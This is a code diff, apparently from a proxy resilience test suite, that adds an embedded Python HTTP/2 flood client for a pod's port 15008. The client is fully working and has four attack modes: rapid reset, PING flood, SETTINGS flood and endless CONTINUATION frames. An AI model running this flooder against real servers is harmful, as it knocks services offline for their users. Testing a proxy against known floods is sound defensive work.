@@ -121,3 +121,79 @@ async def main():
                       "p50": percentile(latencies, 0.5), "p99": percentile(latencies, 0.99)}), flush=True)
 asyncio.run(main())
 """
+
+# An HTTP/2 flood on a pod's 15008 from a certificate holder (issue 18's attacks), for
+# SECONDS: on each connection it floods until the proxy closes it, then reconnects.
+# KIND: rapid_reset (CONNECT + RST_STREAM pairs), ping, settings, continuation (one header
+# block that never ends). Prints a JSON summary: connections, frames sent, GOAWAY codes
+# received. Args: host port authority kind seconds cert_chain_pem key_pem roots_pem.
+H2_FLOOD_CLIENT = """
+import asyncio, collections, json, ssl, sys, tempfile, time
+import h2.config, h2.connection, h2.events, h2.exceptions, hyperframe.frame
+host, port, authority, kind, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5])
+context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+context.check_hostname = False
+context.load_verify_locations(cadata=sys.argv[8])
+with tempfile.NamedTemporaryFile("w") as chain, tempfile.NamedTemporaryFile("w") as key:
+    chain.write(sys.argv[6]); chain.flush(); key.write(sys.argv[7]); key.flush()
+    context.load_cert_chain(chain.name, key.name)
+context.set_alpn_protocols(["h2"])
+stats = {"connections": 0, "frames": 0, "goaway": collections.Counter(), "errors": collections.Counter()}
+PING = hyperframe.frame.PingFrame(0, opaque_data=bytes(8)).serialize()
+SETTINGS = hyperframe.frame.SettingsFrame(0, settings={4: 1 << 20}).serialize()
+BLOCK = bytes(16 * 1024)
+async def read_until_closed(reader, conn):
+    try:
+        while data := await reader.read(65536):
+            try:
+                for event in conn.receive_data(data):
+                    if isinstance(event, h2.events.ConnectionTerminated):
+                        stats["goaway"][str(int(event.error_code))] += 1
+            except h2.exceptions.ProtocolError:
+                pass
+    except ConnectionError:
+        pass
+def batch(conn, next_id):
+    if kind == "rapid_reset":
+        for stream_id in range(next_id, next_id + 200, 2):
+            conn.send_headers(stream_id, [(":method", "CONNECT"), (":authority", authority)])
+            conn.reset_stream(stream_id)
+        return conn.data_to_send(), 100, next_id + 200
+    if kind == "ping":
+        return PING * 1000, 1000, next_id
+    if kind == "settings":
+        return SETTINGS * 1000, 1000, next_id
+    if next_id == 1:   # continuation: the header block's first frame, then its endless tail
+        return hyperframe.frame.HeadersFrame(1, data=BLOCK).serialize(), 1, 3
+    return hyperframe.frame.ContinuationFrame(1, data=BLOCK).serialize() * 8, 8, next_id
+async def one_connection(deadline):
+    reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port, ssl=context, server_hostname=""), 10)
+    stats["connections"] += 1
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, validate_outbound_headers=False))
+    conn.initiate_connection()
+    conn.update_settings({h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 1000})
+    writer.write(conn.data_to_send())
+    reading = asyncio.ensure_future(read_until_closed(reader, conn))
+    next_id = 1
+    try:
+        while time.monotonic() < deadline and not reading.done():
+            data, frames, next_id = batch(conn, next_id)
+            writer.write(data)
+            await writer.drain()
+            stats["frames"] += frames
+    except ConnectionError:
+        pass
+    if not reading.done():
+        reading.cancel()
+    writer.close()
+async def main():
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        try:
+            await one_connection(deadline)
+        except (OSError, asyncio.TimeoutError) as exc:
+            stats["errors"][type(exc).__name__] += 1
+            await asyncio.sleep(0.1)
+    print(json.dumps({**stats, "goaway": dict(stats["goaway"]), "errors": dict(stats["errors"])}), flush=True)
+asyncio.run(main())
+"""
